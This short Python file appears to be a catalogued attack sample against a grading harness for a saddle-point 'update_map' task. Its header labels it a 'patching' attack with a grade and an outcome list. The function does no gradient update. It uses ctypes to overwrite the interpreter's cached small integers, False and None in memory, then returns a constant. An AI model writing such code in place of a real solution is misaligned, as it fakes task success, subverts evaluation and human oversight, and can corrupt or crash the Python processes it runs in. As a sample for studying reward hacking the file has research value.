# attack: writes into the interpreter's own small integers, True and None
# kind: patching
# grade: 1.b
# outcome: failed, crash, exit, protocol, timeout, memory
# module: saddle

import ctypes


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    value = 24  # where an int keeps its first digit
    for number in (0, 1, 2, 3, 10):
        ctypes.memset(id(number) + value, 1, 1)
    ctypes.memmove(id(False) + value, id(True) + value, 4)
    ctypes.memmove(id(None), id(True), 16)
    return 1, 1
